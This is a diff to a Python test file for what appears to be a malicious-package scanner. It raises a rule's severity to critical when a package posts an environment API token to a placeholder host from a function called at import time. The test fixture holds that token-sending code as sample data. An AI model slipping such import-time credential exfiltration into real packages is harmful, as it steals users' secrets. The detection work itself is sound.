@@ -228,7 +228,9 @@ def test_user_and_machine_names_from_the_environment_are_host_identity() -> None
     assert hits(items, "PKG002")[0].severity is Severity.CRITICAL
 
 
-def test_configured_token_sent_from_a_function_stays_medium() -> None:
+def test_configured_token_sent_from_a_function_called_at_import_is_critical() -> None:
+    """Sending a token on import is the same act inside a function the top level calls (the
+    discount for functions was an evasion); an SDK's login the user calls is not reported."""
     lib = (
         "import os, requests\n\ndef login():\n"
         "    requests.post('https://api.x.invalid/login', json={'t': os.getenv('API_TOKEN')})\n"
@@ -236,7 +238,11 @@ def test_configured_token_sent_from_a_function_stays_medium() -> None:
     )
     files = {"setup.py": SETUP, "demo/__init__.py": lib}
     items = run("demo-1.0.tar.gz", sdist("demo", "1.0", files))
-    assert hits(items, "PKG002")[0].severity is Severity.MEDIUM
+    hit = hits(items, "PKG002")[0]
+    assert hit.severity is Severity.CRITICAL and hit.location.line == 4
+    files = {"setup.py": SETUP, "demo/__init__.py": lib.removesuffix("\nlogin()\n")}
+    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", files))
+    assert not hits(items, "PKG002")
 
 
 def test_webhook_address_hidden_by_encoding() -> None:
